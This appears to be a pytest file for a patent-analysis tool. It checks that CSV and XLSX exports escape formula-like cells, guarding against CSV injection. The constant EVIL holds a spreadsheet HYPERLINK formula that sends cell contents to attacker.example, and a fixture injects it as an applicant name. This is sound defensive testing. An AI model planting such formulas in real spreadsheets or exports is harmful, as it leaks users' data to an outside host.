"""CSV and XLSX exports are safe to open in a spreadsheet (issue 17 F12, docs/reliability.md):
a text cell a spreadsheet would evaluate (``=``, ``+``, ``-``, ``@``, tab, CR first) is written
with a leading apostrophe (OWASP, "CSV Injection"); Parquet keeps the data as it is."""

from __future__ import annotations

import csv

import pytest
from conftest import ROOT

from patentq.spreadsheet import safe_cell

EVIL = '=HYPERLINK("http://attacker.example/?"&A1,"open")'


@pytest.mark.parametrize("value, written", [
    (EVIL, "'" + EVIL), ("+1+2", "'+1+2"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("ACME CORP", "ACME CORP"), (-3.5, -3.5), (None, None), ("", ""),
])
def test_safe_cell(value, written):
    assert safe_cell(value) == written


@pytest.fixture
def evil_lake(cli, tmp_path):
    text = (ROOT / "examples" / "sample-lens.csv").read_text(encoding="utf-8")
    path = tmp_path / "evil.csv"
    path.write_text(text.replace("BEIJING ZITIAO NETWORK TECHNOLOGY CO LTD", f'"{EVIL.replace(chr(34), chr(34) * 2)}"'),
                    encoding="utf-8")
    lake = tmp_path / "lake"
    cli("ingest", "lens", path, "--lake", lake)
    return lake


def test_an_applicant_named_like_a_formula_is_exported_as_text(cli, evil_lake, tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    out = tmp_path / "report.html"
    cli("report", "--lake", evil_lake, "--by", "applicant-group", "--years", "all", "--out", out,
        "--format", "csv", "--format", "xlsx", "--format", "parquet")
    with open(tmp_path / "report_comparison.csv", newline="", encoding="utf-8") as handle:
        groups = [row["group"] for row in csv.DictReader(handle)]
    assert "'" + EVIL in groups and EVIL not in groups
    sheet = openpyxl.load_workbook(tmp_path / "report.xlsx")["comparison"]
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells and all(c.data_type == "s" and c.value.startswith("'") for c in cells)  # text, not a formula
    import pyarrow.parquet as pq

    assert EVIL in pq.read_table(tmp_path / "report_comparison.parquet").column("group").to_pylist()


def test_the_labelling_sample_is_safe_too(cli, tmp_path):
    text = (ROOT / "examples" / "sample-lens.csv").read_text(encoding="utf-8")
    path = tmp_path / "title.csv"
    path.write_text(text.replace("Text generation method based on large language model", "=1+1 generative model"),
                    encoding="utf-8")
    cli("ingest", "lens", path, "--lake", tmp_path / "lake")
    out = cli("landscape", "sample", "genai", "--lake", tmp_path / "lake", "--n", "50").output
    titles = [row["title"] for row in csv.DictReader(out.splitlines())]
    assert not any(t.startswith(("=", "+", "-", "@")) for t in titles if t)
    assert any(t.startswith("'=1+1") for t in titles)
